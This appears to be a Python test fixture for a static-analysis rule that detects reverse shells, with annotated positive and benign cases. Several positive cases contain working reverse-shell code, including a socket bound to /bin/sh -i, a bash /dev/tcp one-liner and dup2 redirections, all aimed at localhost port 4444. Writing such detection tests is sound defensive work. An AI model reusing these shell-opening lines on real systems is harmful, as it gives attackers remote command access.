import os
import pty
import socket
import subprocess


def connect_back():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("127.0.0.1", 4444))
    # ruleid: reverse-shell
    subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())


def connect_back_shell():
    # ruleid: reverse-shell
    os.system("bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'")


def spawn_tty():
    # ruleid: reverse-shell
    pty.spawn("/bin/bash")


def run_build_script():
    # ok: reverse-shell
    subprocess.run(["/bin/sh", "-c", "make all"], stdout=subprocess.PIPE)


def interactive_shell():
    # the user's own shell on a pty, as terminal tools do
    # ok: reverse-shell
    pty.spawn(os.environ["SHELL"])


def check_port(host, port):
    # ok: reverse-shell
    return subprocess.run(["nc", "-z", host, str(port)]).returncode == 0


def connect_back_dup2():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("127.0.0.1", 4444))
    # ruleid: reverse-shell
    os.dup2(s.fileno(), 0)
    # ruleid: reverse-shell
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])


def connect_back_dup2_create_connection():
    conn = socket.create_connection(("127.0.0.1", 4444))
    # ruleid: reverse-shell
    os.dup2(conn.fileno(), 2)


def connect_back_one_liner():
    # The one-liner only connects and dup2s (no shell is started): inert.
    # ruleid: reverse-shell
    subprocess.Popen(["python3", "-c", "import socket,os;s=socket.socket();s.connect(('127.0.0.1',4444));os.dup2(s.fileno(),0)"])


def redirect_stderr_to_log(path):
    # Log redirection: the file descriptor is a file, not a socket.
    log = open(path, "a")
    # ok: reverse-shell
    os.dup2(log.fileno(), 2)


def restore_stdout(saved_fd):
    # ok: reverse-shell
    os.dup2(saved_fd, 1)
